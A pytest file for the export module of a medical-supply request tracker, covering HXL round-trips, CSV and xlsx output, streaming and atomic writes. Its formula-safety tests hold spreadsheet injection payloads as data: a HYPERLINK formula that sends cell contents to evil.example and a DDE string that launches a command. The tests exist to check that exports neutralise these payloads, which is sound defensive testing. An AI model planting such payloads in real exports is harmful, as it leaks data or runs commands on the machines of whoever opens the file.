"""Exports: HXL read back through the importer gives the same records; CSV and xlsx
content; formula-safe cells; streaming by keyset pages; files appear whole or not at all."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from dutyboard.ingest.parse import parse_bytes, parse_file
from dutyboard.reports import export
from dutyboard.store import Store
from dutyboard.store import supplies as s
from dutyboard.store import views as v

SHANGHAI = ZoneInfo("Asia/Shanghai")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def fill_requests(store: Store) -> list[int]:
    rows = [
        {
            "org": "Jilin University",
            "requester": "Wang Li",
            "phone": "+86 431 8516 6000",
            "email": "wang.li@jlu.example",
            "item": "KN95 masks",
            "quantity": 1_200,
            "unit": "pcs",
            "priority": "urgent",
            "due_by": "2020-02-05T10:00:00+00:00",
            "received_at": "2020-02-04T01:30:00+00:00",
            "notes": "for 40 foreign experts\nsecond line, with a comma",
        },
        {
            "org": "吉林大学外国留学生办公室",
            "item": "医用外科口罩",
            "quantity": 5_000,
            "unit": "只",
            "priority": "normal",
            "received_at": "2020-02-04T02:00:00+00:00",
        },
        {
            "org": "Erdao District Office",
            "item": "75% alcohol",
            "quantity": 12.5,
            "unit": "litres",
            "priority": "low",
            "received_at": "2020-02-04T03:00:00+00:00",
        },
    ]
    ids = [store.add_request(r) for r in rows]
    store.acknowledge_request(ids[0])
    return ids


def all_rows(store: Store, spec: v.ViewSpec, *, hxl: bool = False) -> str:
    return export.csv_text(export.view_rows(store, spec), spec.table, hxl=hxl)


def test_requests_hxl_reads_back_as_the_same_records(store: Store, tmp_path: Path) -> None:
    ids = fill_requests(store)
    path = tmp_path / "requests.hxl.csv"
    spec = v.ViewSpec("requests", sort="received", open_only=False)
    assert export.export_view(store, spec, path, "hxl") == 3
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].startswith("#meta+id,#date+reported,#org,#contact+name,#contact+phone")
    result = parse_file(path, "requests")
    assert result.format == "hxl" and not result.problems
    assert [r.external_id for r in result.rows] == [str(i) for i in ids]
    for parsed, record_id in zip(result.rows, ids, strict=True):
        row = store.get("requests", record_id)
        for name, value in parsed.fields.items():
            assert value == row[name], (record_id, name)
        expected = {
            k
            for k in (
                "org",
                "requester",
                "phone",
                "email",
                "item",
                "quantity",
                "unit",
                "priority",
                "due_by",
                "received_at",
                "notes",
            )
            if row[k] is not None
        }
        assert set(parsed.fields) == expected
        assert parsed.extra["#status"] == row["status"]
    assert result.rows[0].extra["#meta+assignee"] == "tester"


def test_supplies_hxl_reads_back_through_the_importer(store: Store) -> None:
    rid = store.add_request({"org": "Jilin University", "item": "KN95 masks", "quantity": 1000})
    s.record_received(
        store,
        "医用外科口罩",
        5,
        "万只",
        counterparty="Sendai (sister city)",
        at="2020-02-04T17:00:00+00:00",
    )
    s.record_received(
        store,
        "nitrile gloves",
        40,
        "boxes",
        kind="purchase",
        counterparty="Colombo Gloves",
        amount=1_800,
        currency="USD",
        at="2020-02-04T18:00:00+00:00",
    )
    s.fulfil_request(store, rid, 10, "boxes", at="2020-02-04T18:30:00+00:00")
    text = export.csv_text(s.iter_ledger(store), "supplies", hxl=True)
    result = parse_bytes(text.encode(), "supplies.csv", "requests")
    assert result.format == "hxl" and not result.problems
    ledger = list(s.iter_ledger(store))
    assert [r.external_id for r in result.rows] == [str(e["id"]) for e in ledger]
    for parsed, entry in zip(result.rows, ledger, strict=True):
        assert parsed.fields["org"] == entry["counterparty"]
        assert parsed.fields["item"] == entry["item"]
        assert parsed.fields["quantity"] == entry["quantity"]
        assert parsed.fields["unit"] == entry["unit"]
        assert parsed.fields["received_at"] == entry["at"]
        assert parsed.extra["#indicator+direction"] == entry["direction"]
        assert parsed.extra["#meta+category"] == entry["category"]
        assert float(parsed.extra["#meta+base_qty"]) == entry["base_quantity"]
    gloves = result.rows[1]
    assert (gloves.extra["#value+amount"], gloves.extra["#currency"]) == ("1800", "USD")
    assert result.rows[2].extra["#meta+request"] == str(rid)


def test_csv_export_of_a_filtered_view_in_desk_time(store: Store, tmp_path: Path) -> None:
    fill_requests(store)
    store.add_request({"org": HOSTILE, "item": "@SUM(1+1)*cmd|' /C calc'!A0", "quantity": 1})
    path = tmp_path / "masks.csv"
    spec = v.ViewSpec("requests", text="口罩", open_only=False)
    assert export.export_view(store, spec, path, "csv", zone=SHANGHAI) == 1
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    header = rows[0]
    assert header[:3] == ["ID", "Received at (Asia/Shanghai)", "Requesting unit"]
    record = dict(zip(header, rows[1], strict=True))
    assert record["Received at (Asia/Shanghai)"] == "2020-02-04 10:00"  # 02:00 UTC + 8
    assert record["Item"] == "医用外科口罩" and record["Quantity"] == "5000"
    # The hostile row: every formula start is neutralised, in CSV and in HXL.
    by_time = v.ViewSpec("requests", sort="received", open_only=False)
    everything = list(csv.reader(io.StringIO(all_rows(store, by_time))))
    hostile = everything[-1]
    assert f"'{HOSTILE}" in hostile and "'@SUM(1+1)*cmd|' /C calc'!A0" in hostile
    assert "'+86 431 8516 6000" in everything[1]  # plain CSV: even a phone is neutralised
    hxl = all_rows(store, by_time, hxl=True)
    assert f"'{HOSTILE}".replace('"', '""') in hxl
    assert ",+86 431 8516 6000," in hxl  # HXL: a phone number stays a phone number


def test_xlsx_export_numbers_dates_and_safe_text(store: Store, tmp_path: Path) -> None:
    fill_requests(store)
    store.add_request({"org": HOSTILE, "item": "masks", "quantity": 3})
    path = tmp_path / "requests.xlsx"
    spec = v.ViewSpec("requests", sort="received", open_only=False)
    assert export.export_view(store, spec, path, "xlsx", zone=SHANGHAI) == 4
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["Received at (Asia/Shanghai)"] == datetime(2020, 2, 4, 9, 30)
    assert first["Quantity"] == 1200 and isinstance(first["Quantity"], int)
    third = dict(zip(header, rows[3], strict=True))
    assert third["Quantity"] == 12.5
    hostile = dict(zip(header, rows[4], strict=True))
    assert hostile["Requesting unit"] == "'" + HOSTILE  # text, not a formula
    assert sheet["C5"].data_type == "s"


def test_supplies_export_streams_pages_and_filters(store: Store, tmp_path: Path) -> None:
    base = datetime(2020, 2, 3, tzinfo=UTC)
    for i in range(2_100):
        s.record_received(
            store, "gloves" if i % 3 else "masks", i + 1, at=base + timedelta(seconds=i)
        )
    s.record_distributed(store, "masks", 5, counterparty="Jilin University", at=base)
    path = tmp_path / "ledger.csv"
    assert export.export_supplies(store, path, "csv", direction="received") == 2_100
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 2_101
    assert [int(r[0]) for r in rows[1:]] == list(range(1, 2_101))  # time order, none lost
    assert export.export_supplies(store, path, "csv", text="masks", replace=True) == 701
    assert export.export_supplies(store, path, "xlsx", direction="distributed", replace=True) == 1


def test_files_appear_whole_or_not_at_all(store: Store, tmp_path: Path) -> None:
    fill_requests(store)
    out = tmp_path / "exports"
    out.mkdir()
    path = out / "out.csv"
    path.write_text("previous export\n")

    def broken() -> object:
        yield store.get("requests", 1)
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        export.write_rows(broken(), "requests", "csv", path)  # type: ignore[arg-type]
    assert path.read_text() == "previous export\n"
    assert list(out.iterdir()) == [path]  # no temporary file left behind
    with pytest.raises(export.ExportError, match="leads cannot be exported as HXL"):
        export.write_rows([], "leads", "hxl", path)


@pytest.mark.parametrize("table", ["leads", "contacts"])
def test_every_panel_view_exports(store: Store, tmp_path: Path, table: str) -> None:
    if table == "leads":
        store.add_lead({"supplier": "Karachi Surgical Co.", "item": "goggles", "unit_price": 1.2})
    else:
        store.add_contact({"name": "Nimal Perera", "tz": "Asia/Colombo", "phone": "+94 11 2"})
    path = tmp_path / f"{table}.csv"
    assert export.export_view(store, v.ViewSpec(table), path) == 1  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[0][0] == "ID" and len(rows) == 2


def test_a_leads_next_step_is_exported_and_reads_back(store: Store, tmp_path: Path) -> None:
    """The "To do" of a lead leaves in its own column ("Next step"), beside the time, and
    the leads importer puts it back into the same field."""
    from dutyboard.ingest.store_sink import ingest_bytes

    lead = store.add_lead({"supplier": "Lanka Medical (Pvt) Ltd", "item": "KN95 masks"})
    store.set_next_action(lead, "2020-02-05T02:00:00+00:00", "call back about the price")
    path = tmp_path / "leads.csv"
    spec = v.ViewSpec("leads", open_only=False)
    assert export.export_view(store, spec, path, "csv", zone=SHANGHAI) == 1
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Next step"] == "call back about the price"
    assert record["Next action (Asia/Shanghai)"] == "2020-02-05 10:00"
    other = Store.open(tmp_path / "other.db", actor="tester")
    summary = ingest_bytes(
        other, path.read_bytes(), "leads.csv", kind="leads", source="cli", zone="Asia/Shanghai"
    )
    assert summary.added == 1, summary
    (back,) = other.conn.execute("SELECT next_action, extra FROM leads").fetchall()
    assert back["next_action"] == "call back about the price"
    # The time's header names its zone, which the importer does not read as "next
    # action" yet: it is kept whole in the record's extra fields, not lost.
    assert json.loads(back["extra"])["Next action (Asia/Shanghai)"] == "2020-02-05 10:00"
    other.close()
